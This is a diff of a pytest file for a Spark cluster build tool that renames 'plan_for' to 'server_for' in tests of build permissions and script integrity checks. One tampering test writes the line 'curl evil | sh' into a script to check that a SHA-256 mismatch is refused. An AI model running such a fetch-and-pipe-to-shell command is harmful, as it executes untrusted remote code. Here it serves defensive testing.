@@ -11,7 +11,7 @@ from typing import Any
 import pytest
 from factories import make_node
 from program import invoke
-from serve_plans import plan_for
+from serve_plans import server_for
 
 from spark_cluster.config.allowances import NOTHING, Allowances
 from spark_cluster.config.image_build import Build
@@ -131,16 +131,16 @@ ALLOWED = Allowances(build=True)
 def test_scripts_run_only_when_the_user_allows_it(project: Path) -> None:
     node = make_node("a")
     with pytest.raises(Refused, match=r"as root in a container of the nodes, without a net") as e:
-        plan_for(recipe(project), node)
+        server_for(recipe(project), node)
     assert f"fix (https://example.org/mods, {COMMIT[:12]})" in e.value.message
     assert "--allow-build, or `allow_build: true`" in e.value.hint
-    assert plan_for(recipe(project, ALLOWED), node)
+    assert server_for(recipe(project, ALLOWED), node)
     with pytest.raises(Refused, match="with access to the network") as e:
-        plan_for(recipe(project, ALLOWED, network=True), node)
+        server_for(recipe(project, ALLOWED, network=True), node)
     assert "--allow-build-network" in e.value.hint
-    assert plan_for(recipe(project, Allowances(build_network=True), network=True), node)
+    assert server_for(recipe(project, Allowances(build_network=True), network=True), node)
     with pytest.raises(Refused):
-        plan_for(recipe(project, Allowances(build_network=True)), node)
+        server_for(recipe(project, Allowances(build_network=True)), node)
 
 
 def test_a_file_outside_the_project_needs_its_own_permission(
@@ -150,22 +150,22 @@ def test_a_file_outside_the_project_needs_its_own_permission(
     other.write_text(SCRIPT)
     files = [{"path": "run.sh", "file": str(other), "sha256": sha256(SCRIPT)}]
     with pytest.raises(Refused, match=r"wants .*run.sh of this machine sent .*build.steps.fix"):
-        plan_for(recipe(project, ALLOWED, steps=[step(files=files)]), make_node("a"))
+        server_for(recipe(project, ALLOWED, steps=[step(files=files)]), make_node("a"))
 
 
 def test_a_file_that_was_changed_after_the_import(project: Path) -> None:
     script = project / "recipes/r.mods/fix/run.sh"
     script.write_text("curl evil | sh\n")
     with pytest.raises(Refused, match="has the SHA-256") as caught:
-        plan_for(recipe(project, ALLOWED), make_node("a"))
+        server_for(recipe(project, ALLOWED), make_node("a"))
     assert "sha256sum" in caught.value.hint
     script.unlink()
     with pytest.raises(Refused, match="is not on this machine"):
-        plan_for(recipe(project, ALLOWED), make_node("a"))
+        server_for(recipe(project, ALLOWED), make_node("a"))
 
 
 def test_what_a_node_gets(project: Path) -> None:
-    plan = plan_for(recipe(project, ALLOWED, timeout_s=60.0), make_node("a"))
+    plan = server_for(recipe(project, ALLOWED, timeout_s=60.0), make_node("a"))
     loaded = Project(project).load_role("images")
     found = list(loaded.function(plan.nodes[0], loaded.settings_model(**plan.image)))
     base, *placed, built = found
@@ -183,7 +183,7 @@ def test_what_a_node_gets(project: Path) -> None:
 
 def test_a_base_from_an_archive_has_no_digest_in_the_dockerfile(project: Path) -> None:
     base = {"ref": "spark-vllm:lab", "archive": "/srv/images/spark-vllm.tar"}
-    plan = plan_for(recipe(project, ALLOWED, base=base), make_node("a"))
+    plan = server_for(recipe(project, ALLOWED, base=base), make_node("a"))
     assert plan.image["dockerfile"].startswith("FROM spark-vllm:lab\n")
     loaded = Project(project).load_role("images")
     first = next(loaded.function(plan.nodes[0], loaded.settings_model(**plan.image)))
